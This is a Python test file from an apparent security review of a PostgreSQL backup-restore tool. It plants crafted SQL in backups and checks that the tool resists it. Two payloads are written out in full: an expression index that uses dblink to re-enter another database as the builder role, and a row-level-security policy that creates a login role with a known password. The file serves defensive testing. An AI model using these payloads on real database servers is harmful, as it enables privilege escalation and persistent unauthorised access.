"""Issue 21, third review: the non-superuser restore and the seams around the build.

Each attack is planted (with only the bucket writer's key: unsigned, restored with
`--allow-unsigned`) in an otherwise genuine backup of the sample database:

  1. the builder leaves the build: it may change its own password (any role may), and
     `CREATE EXTENSION dblink` is the admin's; once the builder's one session is closed
     (CONNECTION LIMIT 1), the agent's ANALYZE evaluates an expression index as the
     builder, which logs in again through dblink with the password it chose, into another
     database of the server (production, a bystander), as a role the agent cannot drop
     afterwards (it owns a large object there);
  2. a restoring user that is not a superuser (CREATEDB + CREATEROLE) runs
     `verify --restore-test` (no globals: --no-owner, everything its own): the row count
     `SELECT count(*)` it runs in the scratch database evaluates a FORCE ROW LEVEL SECURITY
     policy of the backup as that user, whose CREATEROLE then makes a login role with a
     known password.

Nothing outside the database being built may change, no program may start.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest

from testbed.postgres import PostgresServer
from tests.attacks import (
    EVIL_ROLE,
    Bed,
    Outside,
    assert_nothing_outside_changed,
    before_first_schema,
    invocation,
    review_fixtures,
    watched,
)
from tests.conftest import run_agent

SEED = "atkr3_seed"
PRODUCTION = "atkr3_prod"
BYSTANDER = "atkr3_bystander"
COPY_NAME = f"{PRODUCTION}_copy"
markers_root, markers, bed, world = review_fixtures("atkr3")
LARGE_OBJECT = 424242


def planted_large_object(server: PostgresServer, database: str) -> str:
    return server.psql(database, "SELECT pg_get_userbyid(lomowner) FROM "
                                 f"pg_largeobject_metadata WHERE oid = {LARGE_OBJECT};").strip()


# 1. The builder logs in again, through dblink, once its own session is closed

def test_the_builder_never_logs_in_again_to_reach_another_database(
        bed: Bed, world: Outside, markers: Path, tmp_path: Path) -> None:
    """ALTER ROLE CURRENT_USER PASSWORD is every role's right, dblink_connect is PUBLIC's,
    and a password-authenticated connection passes its check; CONNECTION LIMIT 1 holds only
    while the builder's session is open. ANALYZE (after it) runs the index expression as
    the table's owner, the builder: it connects to the bystander database and leaves a
    large object there, so the builder cannot be dropped."""
    server = bed.server
    password = secrets.token_urlsafe(12)
    connection = (f"host=127.0.0.1 port={server.port} dbname={BYSTANDER} "
                  f"password={password} user=")
    attack = (
        "CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;\n"
        # Volatile (an immutable function may not ALTER ROLE), called by an immutable one.
        "CREATE FUNCTION public.atk_act() RETURNS void LANGUAGE plpgsql AS $$ BEGIN\n"
        "    EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', CURRENT_USER,\n"
        f"        '{password}');\n"
        "    IF SESSION_USER OPERATOR(pg_catalog.=) CURRENT_USER THEN RETURN; END IF;\n"
        "    FOR attempt IN 1..50 LOOP BEGIN\n"  # until the builder's session is gone
        "      PERFORM public.dblink_connect('atk', pg_catalog.concat(\n"
        f"          '{connection}', CURRENT_USER));\n"
        "      PERFORM public.dblink_exec('atk', 'SELECT pg_catalog.lo_create("
        f"{LARGE_OBJECT})');\n"
        "      PERFORM public.dblink_disconnect('atk'); RETURN;\n"
        "    EXCEPTION WHEN OTHERS THEN PERFORM pg_catalog.pg_sleep(0.1); END; END LOOP;\n"
        "    END $$;\n"
        "CREATE FUNCTION public.atk_reach(integer) RETURNS integer LANGUAGE plpgsql\n"
        "    IMMUTABLE AS $$ BEGIN PERFORM public.atk_act(); RETURN $1; END $$;\n"
        "CREATE TABLE public.atk_t (x integer);\n"
        "COPY public.atk_t (x) FROM stdin;\n1\n2\n\\.\n\n"
        "CREATE INDEX atk_i ON public.atk_t USING btree (public.atk_reach(x));\n"
        f"ALTER FUNCTION public.atk_act() OWNER TO {server.user};\n"
        f"ALTER FUNCTION public.atk_reach(integer) OWNER TO {server.user};\n"
        f"ALTER TABLE public.atk_t OWNER TO {server.user};\n")
    planted = bed.plant(tmp_path, before_first_schema(attack.encode()))
    arguments, environment = invocation("target-db", bed, planted, None)
    result = run_agent(arguments, environment)
    assert planted_large_object(server, BYSTANDER) == "", \
        f"the builder wrote into {BYSTANDER}\n{result.stderr[-2000:]}"
    assert_nothing_outside_changed(server, world, result, markers, codes={0, 8, 10},
                                   may_create_databases={COPY_NAME})


# 2. A non-superuser's restore test counts rows through the backup's policy

@pytest.fixture
def restorer(bed: Bed) -> Iterator[tuple[str, str]]:
    """A restoring user as on a managed server: CREATEDB + CREATEROLE, no superuser."""
    name, password = f"atkr3_restorer_{secrets.token_hex(3)}", secrets.token_urlsafe(12)
    bed.server.psql("postgres", f"CREATE ROLE {name} LOGIN CREATEDB CREATEROLE "
                                f"PASSWORD '{password}';")
    yield name, password
    for database in bed.server.database_names():
        if database.startswith(f"{PRODUCTION}_verify_"):
            bed.server.drop_database(database)
    bed.server.psql("postgres", f"DROP ROLE IF EXISTS {EVIL_ROLE};", check=False)
    bed.server.psql("postgres", f"DROP ROLE {name};")


def test_a_non_superusers_row_counts_never_run_a_policy_of_the_backup(
        bed: Bed, markers: Path, tmp_path: Path, restorer: tuple[str, str]) -> None:
    """With --no-owner (a backup without globals) the restoring user owns every table; FORCE
    ROW LEVEL SECURITY applies its policies to the owner too, so `SELECT count(*)` calls
    the policy's function as that user (a superuser bypasses every policy)."""
    name, password = restorer
    with watched(bed) as before:
        attack = (
            "CREATE FUNCTION public.atk_seen() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN\n"
            f"    BEGIN CREATE ROLE {EVIL_ROLE} LOGIN CREATEDB PASSWORD 'known-password';\n"
            "    EXCEPTION WHEN OTHERS THEN NULL; END; RETURN true; END $$;\n"
            "CREATE TABLE public.atk_t (x integer);\n"
            "COPY public.atk_t (x) FROM stdin;\n1\n\\.\n\n"
            "ALTER TABLE public.atk_t ENABLE ROW LEVEL SECURITY;\n"
            "ALTER TABLE public.atk_t FORCE ROW LEVEL SECURITY;\n"
            "CREATE POLICY atk_p ON public.atk_t USING (public.atk_seen());\n"
            f"ALTER FUNCTION public.atk_seen() OWNER TO {bed.server.user};\n"
            f"ALTER TABLE public.atk_t OWNER TO {bed.server.user};\n")
        planted = bed.plant(tmp_path, before_first_schema(attack.encode()),
                            without_globals=True)
        arguments, environment = invocation("restore-test", bed, planted, None)
        result = run_agent(arguments, {**environment, "POSTGRES_USER": name,
                                       "POSTGRES_PASSWORD": password})
        assert "Traceback" not in result.stderr, result.stderr
        assert_nothing_outside_changed(bed.server, before, result, markers,
                                       codes={8})
